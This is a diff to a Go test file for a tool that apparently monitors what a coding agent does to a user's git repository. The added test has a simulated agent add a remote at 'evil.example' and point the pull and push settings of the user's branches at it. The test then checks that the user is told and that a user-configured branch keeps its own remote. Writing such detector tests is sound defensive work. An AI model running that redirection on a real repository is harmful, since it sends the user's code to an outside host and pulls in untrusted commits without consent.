@@ -382,6 +382,20 @@ func TestARemoteThatTheUserTakesAwayStaysAway(t *testing.T) {
 	}
 }
 
+// The user's next `git pull` on a branch of theirs merges what the agent's remote has, and `git push` goes there.
+func TestTheAgentHasABranchOfTheUsersFollowItsRemote(t *testing.T) {
+	w := newWorld(t)
+	w.user("git branch other; git branch own; git remote add up https://git.example/x.git; git config branch.own.remote up; git config branch.own.merge refs/heads/own")
+	w.begin()
+	w.agent("git remote add evil https://evil.example/x.git; for b in main other own; do git config branch.$b.remote evil; git config branch.$b.merge refs/heads/x; done")
+	if told, want := strings.Join(w.end(), "\n"), "evil.example/x.git; `git pull` and `git push` use it on main, other"; !strings.Contains(told, want) {
+		t.Errorf("told %q, want %q", told, want)
+	}
+	if got := w.user("git config branch.own.remote"); got != "up" {
+		t.Errorf("a branch that followed another one follows %q", got)
+	}
+}
+
 func TestAFullDiskHasARemedy(t *testing.T) {
 	s := side{place: Place{Outer: "/work/it", Folder: "/home/f"}}
 	err := s.fault(os.ErrInvalid, []byte("error: unable to write file x: No space left on device\nfatal: failed to write object"))
